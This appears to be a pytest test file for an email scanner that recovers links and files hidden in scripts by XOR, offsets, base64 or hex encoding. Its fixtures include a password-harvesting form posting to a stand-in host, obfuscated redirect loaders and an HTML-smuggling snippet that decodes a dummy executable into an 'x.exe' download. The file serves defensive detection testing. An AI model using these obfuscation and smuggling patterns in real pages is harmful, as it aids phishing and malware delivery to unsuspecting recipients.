"""Links and files that a script hides by arithmetic, as loaders and smuggling pages do."""

import base64
import time

import pytest

from submissions.extraction.extract import extract
from submissions.extraction.masked_strings import unmasked
from submissions.extraction.script_strings import script_strings

LINK = "https://evil.example/masked?id=7"
PAGE = f"<html><body><form action='{LINK}'><input name=password></form></body></html>"


def numbers(codes: list[int]) -> str:
    return f"var a = [{', '.join(map(str, codes))}];"


def xored(text: str, word: str) -> list[int]:
    return [ord(character) ^ ord(word[at % len(word)]) for at, character in enumerate(text)]


LOOP = "var s = ''; for (var i = 0; i < a.length; i++) s += String.fromCharCode(a[i] ^ k); location = s;"


@pytest.mark.parametrize(
    "script",
    [
        "var k = 23;" + numbers(xored(LINK, "\x17")) + LOOP,
        "var k = 255;" + numbers(xored(f"go to {LINK} now", "\xff")) + LOOP,
        numbers([ord(character) + 5 for character in LINK]) + "a.map(n => String.fromCharCode(n - 5))",
        numbers([ord(character) * 7 + 1000 for character in LINK]) + "a.map(n => String.fromCharCode((n - 1000) / 7))",
        numbers([900 - ord(character) for character in LINK]) + "a.map(n => String.fromCharCode(900 - n))",
        f"var a = atob('{base64.b64encode(bytes(xored(LINK, chr(99)))).decode()}');{LOOP}",
        f"var a = '{base64.b64encode(bytes(xored(PAGE, 'Secr3t'))).decode()}', k = 'Secr3t';" + LOOP,
        f"var a = '{bytes(xored(PAGE, chr(171))).hex()}', k = 171;" + LOOP,
        f"var a = '{''.join(chr(ord(one) - 3) for one in LINK)}'; a.charCodeAt(0) + 3;",
    ],
    ids=["xor", "xor in words", "added", "multiplied", "taken from", "atob", "word", "hexadecimal", "shifted"],
)
def test_a_masked_link_is_found_in_a_page_and_in_a_script(script: str) -> None:
    page = f"From: a@b.example\nContent-Type: text/html\n\n<p>Hi</p><script>{script}</script>"
    file = f"From: a@b.example\nContent-Type: text/javascript; name=x.js\nContent-Disposition: attachment\n\n{script}"

    for mail in (page, file):
        assert LINK in [url.url for url in extract(mail.encode()).urls]


def test_a_masked_file_of_a_smuggling_page_is_a_file() -> None:
    program = b"MZ\x90\x00" + bytes(range(200))
    masked = base64.b64encode(bytes(value ^ 0x42 for value in program)).decode()
    script = f"var d = atob('{masked}'); for (...) o[i] = d.charCodeAt(i) ^ 0x42; new Blob([o]); a.download = 'x.exe'"
    mail = extract(f"From: a@b.example\nContent-Type: text/html\n\n<script>{script}</script>".encode())

    assert program in [file.content for file in mail.files]


def test_a_script_that_masks_nothing_stays_as_it_is() -> None:
    script = f"var a = '{LINK}', b = [1, 2, 3], c = a.charCodeAt(0) ^ 4;"

    assert [text for text in script_strings(script) if len(text) > 1] == [LINK, "\x01\x02\x03"]


@pytest.mark.parametrize("text", ["htt" * 100_000, "\x00" * 300_000, "http:" * 60_000, "\u4e2d" * 300_000])
def test_long_strings_take_linear_time(text: str) -> None:
    start = time.process_time()
    unmasked([text, "ab", "Secr3t"])

    assert time.process_time() - start < 5
